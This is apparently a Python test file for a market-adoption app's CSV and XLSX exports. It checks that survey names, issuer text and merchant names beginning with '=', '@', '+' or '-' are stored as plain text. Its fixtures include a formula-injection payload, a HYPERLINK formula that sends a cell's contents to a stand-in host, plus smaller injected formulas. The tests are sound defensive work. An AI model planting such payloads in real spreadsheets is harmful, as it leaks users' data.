"""The commune report and the visit list as files a spreadsheet opens without running anything in them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import sqlalchemy as sa
from adoption_market import AS_OF, build

from market.adoption.commune import SurveyIn, commune_report, parse_period, save_survey
from market.adoption.export.render import render
from market.adoption.visits import visit_list
from market.merchants.models import Merchant, Stall

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào")'


def _report_with_survey(engine):
    build(engine)
    with engine.begin() as conn:
        save_survey(
            conn,
            SurveyIn(
                key="online_payment_account",
                name=FORMULA,
                numerator=3695,
                denominator=10000,
                surveyed_on=dt.date(2026, 2, 20),
                source="@SUM(A1:A9) điều tra hộ",
                target_percent=80,
            ),
            "tester",
            AS_OF,
        )
        return commune_report(
            conn,
            parse_period("2026-03", AS_OF),
            market_name="Chợ Thoại Giang",
            issued_on=dt.date(2026, 4, 3),
            profile_overrides={"issuer": "-UBND XÃ THOẠI GIANG"},
        )


def test_the_commune_xlsx_holds_survey_texts_as_text(engine):
    report = _report_with_survey(engine)
    sheet = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx").content))["Bieu_XHS"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    name = next(cell for cell in cells if cell.value == FORMULA)
    assert (name.data_type, name.quotePrefix) == ("s", True)
    source = next(cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("Khảo sát"))
    assert "@SUM(A1:A9)" in source.value
    issuer = sheet.cell(2, 1)
    assert (issuer.value, issuer.data_type, issuer.quotePrefix) == ("-UBND XÃ THOẠI GIANG", "s", True)
    # Numbers are still numbers.
    numerators = [cell.value for cell in cells if cell.column == 6 and cell.row > 10]
    assert 3695 in numerators


def test_the_commune_csv_quotes_a_survey_name_that_starts_like_a_formula(engine):
    report = _report_with_survey(engine)
    text = render(report, "csv").content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text), delimiter=";") if r[2] == "online_payment_account")
    assert row[3] == "'" + FORMULA
    assert row[7:10] == ["3695", "10000", "36,95"]


def test_the_visit_list_csv_quotes_a_holder_name_that_starts_like_a_formula(engine):
    build(engine)
    with engine.begin() as conn:
        stall_id = conn.execute(sa.select(Stall.id).where(Stall.code == "A-04")).scalar_one()
        conn.execute(sa.update(Merchant).where(Merchant.stall_id == stall_id).values(full_name="=1+1", phone=None))
        conn.execute(sa.update(Stall).where(Stall.id == stall_id).values(no_cashless_note="+ còn nợ tiền điện"))
        visits = visit_list(conn, as_of=AS_OF)
    text = render(visits, "csv").content.decode("utf-8-sig")
    rows = {r[2]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
    assert rows["A-04"][3] == "'=1+1"
    assert rows["A-04"][12] == "'+ còn nợ tiền điện"
    assert rows["A-02"][3] == "Nguyễn Thị A-02"
